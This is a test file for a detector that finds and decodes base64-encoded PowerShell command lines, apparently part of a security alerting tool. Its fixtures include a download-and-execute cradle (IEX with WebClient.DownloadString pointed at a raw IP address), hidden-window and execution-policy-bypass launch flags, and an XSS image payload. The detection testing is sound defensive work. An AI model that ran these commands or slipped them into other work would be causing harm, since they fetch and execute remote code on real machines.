import { describe, expect, test } from "vitest";
import { decodeUtf16Base64, findEncodedCommand } from "@/lib/alerts/powershell-encoded";

const enc = (script: string) => Buffer.from(script, "utf16le").toString("base64");
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.34/a')";

describe("PowerShell -EncodedCommand", () => {
  test.each(["-EncodedCommand", "-encodedcommand", "-enc", "-e", "-ec", "-en", "-encoded", "/enc", "\u2013enc", "-ENC"])("%s is read", (flag) => {
    const r = findEncodedCommand(`powershell.exe -NoP -W Hidden ${flag} ${enc(SCRIPT)}`);
    expect(r).toEqual({ flag, encoded: enc(SCRIPT), decoded: SCRIPT });
  });

  test("after another parameter with a value-like argument", () => {
    expect(findEncodedCommand(`powershell.exe -NoP -enc ${enc("whoami")}`)?.decoded).toBe("whoami");
    expect(findEncodedCommand(`powershell.exe -NonInteractive -ExecutionPolicy Bypass -e ${enc("whoami")}`)?.decoded).toBe("whoami");
  });

  test("quoted, after a colon, pwsh, a full path", () => {
    expect(findEncodedCommand(`"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -enc "${enc("whoami")}"`)?.decoded).toBe("whoami");
    expect(findEncodedCommand(`pwsh -EncodedCommand:${enc("hostname")}`)?.decoded).toBe("hostname");
  });

  test("not another parameter, not another program, not noise", () => {
    expect(findEncodedCommand(`powershell.exe -ExecutionPolicy Bypass -File x.ps1`)).toBeNull();
    expect(findEncodedCommand(`powershell.exe -ex ${enc("whoami")}`)).toBeNull(); // -ex is -ExecutionPolicy
    expect(findEncodedCommand(`tool.exe -enc ${enc("whoami")}`)).toBeNull();
    expect(findEncodedCommand(`powershell.exe -enc ${Buffer.from("plain ascii, not utf-16").toString("base64")}`)).toBeNull();
    expect(findEncodedCommand(`powershell.exe -enc not*base64`)).toBeNull();
    expect(findEncodedCommand(null)).toBeNull();
  });

  test("the decoded text keeps markup as text and shows control characters as U+FFFD", () => {
    const hostile = "<img src=x onerror=alert(1)>\u0007\nWrite-Host 'ok'";
    expect(decodeUtf16Base64(enc(hostile))).toBe("<img src=x onerror=alert(1)>\ufffd\nWrite-Host 'ok'");
  });

  test("URL-safe base64 and missing padding", () => {
    const b64 = enc("Get-Process ?>").replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
    expect(decodeUtf16Base64(b64)).toBe("Get-Process ?>");
  });
});
